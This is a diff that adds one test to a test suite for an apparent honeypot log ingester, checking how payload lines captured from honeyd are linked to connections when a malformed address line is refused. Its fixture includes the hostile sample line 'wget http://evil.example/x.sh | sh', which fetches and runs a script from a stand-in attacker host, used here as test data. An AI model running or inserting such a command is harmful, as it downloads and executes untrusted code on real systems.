@@ -163,6 +163,26 @@ describe('what counts as a hit', () => {
   });
 });
 
+describe('payload links an attacker cannot steer', () => {
+  it('a refused line ends a -d chunk: the lines after it link to no connection, not to the chunk before', async () => {
+    const dir = state();
+    writeFileSync(join(dir, 'honeyd.log'), '2026-11-28-02:28:59.8097 tcp(6) S 10.99.0.2 45546 10.99.1.10 80\n');
+    writeFileSync(join(dir, 'stderr.txt'), [
+      'honeyd[20401]: E(10.99.0.2:45546 - 10.99.1.10:80): first', 'second',
+      'honeyd[20401]: E(999.0.0.1:1 - 10.99.1.10:80): refused', 'wget http://evil.example/x.sh | sh', '',
+    ].join('\n'));
+    await ingestJson(t.url, ['--sensor', 'chunks', '--tz', 'UTC', '--honeypot-net', '10.99.1.10/32', '--state-dir', dir,
+      join(dir, 'honeyd.log'), join(dir, 'stderr.txt')]);
+    const data = await t.db.rows<{ payload: string; src: string | null }>(
+      'SELECT d.payload, l.src FROM DataView d LEFT JOIN SensorLogView l ON l.id = d.sensorlog_id WHERE d.sensor = ? ORDER BY d.id', ['chunks']);
+    expect(data).toEqual([
+      { payload: 'first', src: '10.99.0.2' },
+      { payload: 'second', src: '10.99.0.2' },
+      { payload: 'wget http://evil.example/x.sh | sh', src: null },
+    ]);
+  });
+});
+
 describe('links and counting across the logs of one sensor', () => {
   it('links E to S, payloads to their connection, script lines through their pid, and counts each contact once', async () => {
     const dir = state();
